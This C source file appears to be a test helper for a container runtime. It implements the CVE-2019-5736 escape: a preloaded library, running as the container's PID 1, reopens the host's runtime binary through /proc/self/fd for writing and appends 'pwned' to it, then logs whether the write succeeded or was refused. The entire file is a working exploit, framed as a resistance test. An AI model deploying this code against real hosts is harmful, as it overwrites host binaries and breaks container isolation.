/* Test helper: the CVE-2019-5736 attack, as a library an image preloads
 * (its /etc/ld.so.preload) into whatever dynamic binary its own loader
 * runs. When that is the container's PID 1, it keeps a descriptor on its
 * own executable, leaves it (exec of a sleep, so nothing inside runs it any
 * more) and has a child (a shell by then) reopen it for writing through
 * /proc/self/fd/N as soon as the host stops running it too. Results go to /out: "loaded",
 * then "wrote" (the host binary was changed) or "refused: why". */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <unistd.h>

static void note(const char *name, const char *text)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/out/%s", name);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd >= 0) {
		if (write(fd, text, strlen(text)) < 0)
			perror(path);
		close(fd);
	}
}

/* Runs the writer: a shell (so that it no longer runs this binary
 * itself, as a forked copy would) that retries the open for writing of
 * descriptor exe for up to 30 s. It fails with ETXTBSY while any process,
 * the host's cspawn above all, runs the file. */
static void overwrite(int exe)
{
	char script[512];

	snprintf(script, sizeof(script),
		 "i=0; while [ $i -lt 1500 ]; do "
		 "if echo pwned 2>/dev/null >>/proc/self/fd/%d; then "
		 "echo wrote >/out/wrote; exit 0; fi; i=$((i + 1)); sleep 0.02; done; "
		 "echo 'refused: still busy or denied' >/out/refused",
		 exe);
	execl("/bin/sh", "sh", "-c", script, (char *)NULL);
	note("refused", "cannot run the writer\n");
}

__attribute__((constructor)) static void attack(void)
{
	char *sleeper[] = {"sleep", "60", NULL};
	int exe;

	if (getpid() != 1)
		return;
	/* Outlive the monitor that the attack gets rid of. */
	prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
	exe = open("/proc/self/exe", O_PATH);
	if (exe < 0) {
		note("refused", "cannot open /proc/self/exe\n");
		return;
	}
	note("loaded", "PID 1 runs a dynamic binary with the image's libraries\n");
	if (fork() == 0) {
		overwrite(exe);
		_exit(0);
	}
	execv("/bin/sleep", sleeper);
}
